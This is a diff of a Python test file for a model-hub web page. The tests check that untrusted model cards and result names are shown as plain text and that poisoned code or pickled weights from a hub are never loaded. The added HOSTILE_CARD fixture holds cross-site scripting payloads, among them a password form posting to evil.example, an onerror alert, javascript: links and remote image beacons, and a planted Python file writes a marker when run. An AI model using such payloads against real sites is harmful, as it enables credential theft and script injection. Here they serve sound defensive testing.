@@ -16,13 +16,16 @@ from conftest import ROOT, TILES
 from hub_server import hub
 from safetensors.torch import load_file
 from sentences import assert_sentence, refused
+from serving import served
 
+from page.card_words import MAX_SHOWN
 from page.model_shelf import ModelShelf, measured_results
 from page.model_words import describe_calibration, describe_results
 from page.models_tab import NO_CARD, _open, _pack, _show
 from page.packing import pack_checkpoint
 from page.settings import Settings
-from training.measured_results import EVALUATION, forget_results, keep_results, read_results
+from pipelines.checkpoint_files import EVALUATION
+from training.measured_results import forget_results, keep_results, read_results
 
 WEIGHTS = "diffusion_pytorch_model.safetensors"
 FIGURES = {"image_auroc": 0.95, "pixel_auroc": 0.765, "pixel_ap": 0.256, "pro": 0.769, "detection_rate": 0.59}
@@ -38,7 +41,7 @@ import torch
 torch.set_num_threads(1)
 from page.model_shelf import ModelShelf
 shelf, answers = ModelShelf([{tiny!r}], ["team/*"]), {{}}
-for hub_id in ("team/poisoned", "team/pickled", "team/none", "other/poisoned"):
+for hub_id in ("team/poisoned", "team/renamed", "team/pickled", "team/beside", "team/none", "other/poisoned"):
     try:
         answers[hub_id] = shelf.open_from_hub(hub_id)
     except ValueError as error:
@@ -104,6 +107,13 @@ def damaged(**changes):
         damaged(pictures={"good": "<script>"}),
         damaged(promised_false_alarm_rate=7),
         damaged(promised_false_alarm_rate=10**400),
+        damaged(data="x" * 10_000),
+        damaged(category="x" * 10_000),
+        damaged(pictures={"good": 10**400}),
+        damaged(pictures={"good": -1}),
+        damaged(pictures={str(number): 1 for number in range(10_000)}),
+        damaged(groups={"all": REPORT["groups"]["all"], "x" * 10_000: REPORT["groups"]["all"]}),
+        "[" + " " * (8 << 20) + "]",
     ],
 )
 def test_results_of_another_shape_are_taken_for_none(content, tmp_path):
@@ -133,13 +143,75 @@ def test_facts_and_card_are_those_of_the_model(page, checkpoint):
     assert "4 %" in facts
     assert "estimate, not a promise" in facts
     assert "Not measured" in results
-    assert card.startswith("<!-- Written")
+    assert card.startswith("# Defect")
+    assert "```python\nfrom diffusers" in card
     assert "library_name" not in card
     (checkpoint / "README.md").unlink()
     assert _show(page, "tile")[2] == NO_CARD
     with pytest.raises(gr.Error) as caught:
         _show(page, "<b>other</b>")
     assert_sentence(caught.value.message, "there is no model")
+
+
+HOSTILE_CARD = """<style>body{display:none}</style><form action=http://evil.example><input name=password></form>
+<img src=x onerror=alert(1)> ![pixel](http://evil.example/a.png) ![a][b] <!-- hidden
+over lines --> \u202egnp.exe\u200b\x1b[2J
+
+1. ```mermaid
+   graph TD; A[x]; click A href "javascript:alert(1)"
+
+~~~ Mermaid x
+````&#109;ermaid
+> ```mer\\maid
+```Python
+a < b
+```
+
+[b]: http://evil.example/b.png
+[x](javascript:alert(1))
+"""
+
+
+def test_a_strangers_card_is_words_alone(page, checkpoint):
+    (checkpoint / "README.md").write_text("---\nlicense: mit\n---\n" + HOSTILE_CARD + "x" * 100_000)
+    card = _show(page, "tile")[2]
+    assert len(card) <= MAX_SHOWN
+    assert not [letter for letter in card if not letter.isprintable() and letter != "\n"]
+    assert "<" not in card
+    assert "![" not in card
+    assert "hidden" not in card
+    assert [line.strip() for line in card.splitlines() if "```" in line or "~~~" in line] == [
+        *("1. ```", "~~~", "````", "> ```", "```python", "```")
+    ]
+    assert "a ‹ b" in card
+
+
+def test_a_strangers_card_shows_as_words_in_a_browser(browser, checkpoint, tmp_path):
+    """Whatever of it was markup, the page has no element of it, and asks no other server for anything."""
+    (checkpoint / "README.md").write_text(HOSTILE_CARD)
+    with served(checkpoint, tmp_path, training=False) as (url, _):
+        page = browser.new_page()
+        asked, alerts = [], []
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
+        page.goto(url)
+        page.get_by_role("tab", name="Models").click()
+        card = page.locator("#model-card")
+        card.get_by_text("a ‹ b").wait_for(timeout=60_000)
+        assert card.locator("style, form, input, img, script, svg.mermaid, .mermaid").count() == 0
+        assert not [href for href in card.locator("a").evaluate_all("a => a.map(x => x.href)") if "script" in href]
+        page.wait_for_timeout(1000)
+    assert alerts == []
+    assert not [address for address in asked if "evil" in address]
+
+
+def test_hostile_names_in_results_are_text(checkpoint, page):
+    evil = "<b>\u202egnp.exe\n|"
+    groups = {"all": REPORT["groups"]["all"], evil: REPORT["groups"]["break"]}
+    keep_results(checkpoint, None, evil, REPORT | {"groups": groups})
+    words = describe_results(measured_results(page.shelf.get("tile")))
+    assert words.count("&lt;b&gt; gnp.exe |") == 2
+    assert "\u202e" not in words
 
 
 def test_a_name_is_text_and_no_markup(page):
@@ -215,14 +287,17 @@ def test_hub_models_are_loaded_without_their_code_and_never_from_pickles(tiny_ch
     poison = f"open({str(marker)!r}, 'w').write('executed')\n"
     for path in (*poisoned.rglob("*.py"), poisoned / "unet" / "evil.py", poisoned / "evil.py"):
         path.write_text(poison + (path.read_text() if path.is_file() else ""))
+    renamed, beside = shutil.copytree(poisoned, tmp_path / "renamed"), shutil.copytree(poisoned, tmp_path / "beside")
     index = json.loads((poisoned / "model_index.json").read_text())
     index |= {"_class_name": ["evil", "Evil"], "unet": ["evil", "Evil"]}
-    (poisoned / "model_index.json").write_text(json.dumps(index))
+    (renamed / "model_index.json").write_text(json.dumps(index))
     shutil.copytree(tiny_checkpoint, pickled)
-    torch.save(load_file(pickled / "unet" / WEIGHTS), pickled / "unet" / "diffusion_pytorch_model.bin")
+    for folder in (pickled, beside):
+        torch.save(load_file(folder / "unet" / WEIGHTS), folder / "unet" / "diffusion_pytorch_model.bin")
     (pickled / "unet" / WEIGHTS).unlink()
 
-    with hub({"team/poisoned": poisoned, "team/pickled": pickled}) as (address, asked):
+    models = {"team/poisoned": poisoned, "team/renamed": renamed, "team/pickled": pickled, "team/beside": beside}
+    with hub(models) as (address, asked):
         values = {"HF_ENDPOINT": address, "HF_HUB_OFFLINE": "0", "HF_HUB_DISABLE_XET": "1", "HOME": str(tmp_path)}
         script = OPENING.format(root=str(ROOT), tiny=str(tiny_checkpoint))
         done = subprocess.run(
@@ -238,8 +313,10 @@ def test_hub_models_are_loaded_without_their_code_and_never_from_pickles(tiny_ch
     assert answers["team/poisoned"] == answers["again"] == ["team/poisoned"]
     assert answers["names"] == ["tiny", "team/poisoned"]
     assert not marker.exists()
-    assert_sentence(answers["team/pickled"], "unet")
-    assert_sentence(answers["team/none"], "team/none", "cannot be fetched")
+    assert_sentence(answers["team/renamed"], "Evil", "AnomalyScoringPipeline")
+    for hub_id in ("team/pickled", "team/beside"):
+        assert_sentence(answers[hub_id], hub_id, "unet/diffusion_pytorch_model.bin", "pickle")
+    assert_sentence(answers["team/none"], "team/none", "does not exist")
     assert_sentence(answers["other/poisoned"], "not among")
     assert not [path for path in asked if path.endswith((".py", ".bin"))]
     assert not [path for path in asked if "other" in path]
